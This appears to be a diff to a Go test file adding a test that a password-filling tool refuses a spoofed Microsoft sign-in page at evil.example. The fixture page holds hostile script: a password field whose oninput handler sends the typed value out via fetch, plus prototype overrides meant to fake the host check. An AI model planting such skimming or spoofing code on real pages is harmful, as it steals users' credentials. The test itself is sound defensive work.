@@ -4,6 +4,7 @@ import (
 	"context"
 	"crypto/sha256"
 	"encoding/base64"
+	"errors"
 	"fmt"
 	"io"
 	"log/slog"
@@ -185,6 +186,38 @@ func TestFillRefusesForeignHosts(t *testing.T) {
 	}
 	if got.Load() != "" {
 		t.Error("it was typed")
+	}
+}
+
+// A page that gives the functions of its world other meanings, so that it
+// seems to be Microsoft's, is seen where it is and gets nothing.
+func TestFillAsksNoScriptOfThePage(t *testing.T) {
+	var got atomic.Value
+	got.Store("")
+	args := site(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		if v := r.FormValue("v"); v != "" {
+			got.Store(v)
+		}
+		fmt.Fprint(w, `<body><input type=password id=i0118 oninput="fetch('/?v='+encodeURIComponent(this.value))"><script>
+			String.prototype.toLowerCase = () => "`+host+`";
+			Array.prototype.includes = () => true;
+			window.$Config = { pgid: "ConvergedSignIn" };
+		</script>`)
+	}))
+	p := start(t, args).Page()
+	if err := p.Navigate(t.Context(), "https://evil.example/"); err != nil {
+		t.Fatal(err)
+	}
+	snap := waitFor(t, p, "page", func(s entra.Snapshot) bool { return s.Ready && s.Shows("i0118") && s.PageID != "" })
+	if snap.Host != "evil.example" || snap.URL != "https://evil.example" {
+		t.Errorf("the page is seen at %s, %s", snap.Host, snap.URL)
+	}
+	var wrong *entra.WrongHostError
+	if err := p.Fill(t.Context(), "#i0118", secret.New("canary"), []string{host}); !errors.As(err, &wrong) || wrong.Host != "evil.example" {
+		t.Errorf("fill: %v", err)
+	}
+	if got.Load() != "" {
+		t.Errorf("%q was typed", got.Load())
 	}
 }
 
